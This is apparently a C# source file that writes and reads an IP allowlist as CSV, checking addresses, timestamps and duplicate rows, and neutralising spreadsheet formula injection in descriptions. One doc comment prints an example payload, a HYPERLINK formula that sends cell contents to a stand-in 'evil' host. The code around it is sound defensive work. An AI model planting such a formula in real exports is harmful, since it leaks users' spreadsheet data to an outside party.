using System.Globalization;
using System.Text;

namespace DevOpsAgent.Incidents;

/// <summary>The rows that are fine, and what is wrong with the others.</summary>
internal sealed record AllowlistRows(IReadOnlyList<AllowlistEntry> Entries, IReadOnlyList<CsvProblem> Problems);

/// <summary>The allowlist as CSV: ip_or_cidr,description,created_at,expires_at. Times are ISO 8601, UTC unless they say otherwise; no expiry is an empty cell.</summary>
internal static class AllowlistCsv
{
    private static readonly string[] Columns = ["ip_or_cidr", "description", "created_at", "expires_at"];

    public static string Write(IEnumerable<AllowlistEntry> entries)
    {
        var csv = new StringBuilder();
        Csv.WriteRow(csv, Columns);
        foreach (var entry in entries)
        {
            Csv.WriteRow(csv, [entry.Value, Disarm(entry.Description), Time(entry.CreatedAt), entry.ExpiresAt is { } expires ? Time(expires) : ""]);
        }

        return csv.ToString();
    }

    /// <summary>With or without a header; with one, the columns in any order and only ip_or_cidr needed. Never throws.</summary>
    /// <param name="now">created_at of rows without one.</param>
    /// <param name="force">True: /0 is fine.</param>
    public static AllowlistRows Read(string text, DateTimeOffset now, bool force)
    {
        var problems = new List<CsvProblem>();
        var entries = new List<AllowlistEntry>();
        var rows = Csv.Read(text, problems);
        IReadOnlyList<string> columns = Columns;
        var lines = new Dictionary<string, int>(StringComparer.Ordinal);
        for (var i = 0; i < rows.Count; i++)
        {
            if (i == 0 && rows[0].Cells.Any(static c => Clean(c) == Columns[0]))
            {
                columns = [.. rows[0].Cells.Select(Clean)];
                if (columns.FirstOrDefault(static c => !Columns.Contains(c)) is { } unknown)
                {
                    problems.Add(new(rows[0].Line, $"There is no column '{unknown}': the columns are {string.Join(", ", Columns)}."));
                    break;
                }

                continue;
            }

            if (ReadRow(rows[i], columns, now, force, problems) is not { } entry)
            {
                continue;
            }

            if (lines.TryAdd(entry.Value, rows[i].Line))
            {
                entries.Add(entry);
            }
            else
            {
                problems.Add(new(rows[i].Line, $"{entry.Value} stands on line {lines[entry.Value]} already."));
            }
        }

        return new(entries, [.. problems.OrderBy(static p => p.Line)]);
    }

    private static AllowlistEntry? ReadRow(CsvRow row, IReadOnlyList<string> columns, DateTimeOffset now, bool force, List<CsvProblem> problems)
    {
        if (row.Cells.Count > columns.Count)
        {
            problems.Add(new(row.Line, $"{row.Cells.Count} cells, expected at most {columns.Count}: quote a description that has a comma."));
            return null;
        }

        var cells = columns.Zip(row.Cells).GroupBy(static p => p.First, StringComparer.Ordinal).ToDictionary(static g => g.Key, static g => g.First().Second, StringComparer.Ordinal);
        string Cell(string column) => cells.GetValueOrDefault(column, "");
        var description = Arm(Cell("description"));
        var fault =
            !AllowlistValue.TryParse(Cell("ip_or_cidr"), force, out var value, out var error) ? error
            : AllowlistDesk.DescriptionFault(description) is { } wrong ? wrong
            : null;
        if (fault is null && TryTime(Cell("created_at"), out var created, out fault) && TryTime(Cell("expires_at"), out var expires, out fault))
        {
            return new() { Value = value.Text, Description = description, CreatedAt = created ?? now, ExpiresAt = expires };
        }

        problems.Add(new(row.Line, fault!));
        return null;
    }

    private static bool TryTime(string text, out DateTimeOffset? time, out string? error)
    {
        time = null;
        error = null;
        if (string.IsNullOrWhiteSpace(text))
        {
            return true;
        }

        if (DateTimeOffset.TryParse(text, CultureInfo.InvariantCulture, DateTimeStyles.AssumeUniversal | DateTimeStyles.AdjustToUniversal, out var parsed))
        {
            time = parsed;
            return true;
        }

        error = $"'{text}' is not a time: write it as 2026-11-21T10:00:00Z, or leave it empty.";
        return false;
    }

    private static string Time(DateTimeOffset at) => at.UtcDateTime.ToString("O", CultureInfo.InvariantCulture);

    private static string Clean(string header) => header.Trim().ToLowerInvariant();

    /// <summary>
    /// A description such as =HYPERLINK("http://evil/?"&amp;A1) would run as a formula when the export is opened in a spreadsheet:
    /// an apostrophe makes it text. One in front of a cell that has one by itself keeps reading back exact.
    /// </summary>
    private static string Disarm(string cell) => IsArmed(cell) ? "'" + cell : cell;

    private static string Arm(string cell) => cell.StartsWith('\'') && IsArmed(cell[1..]) ? cell[1..] : cell;

    private static bool IsArmed(string cell) => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\'';
}
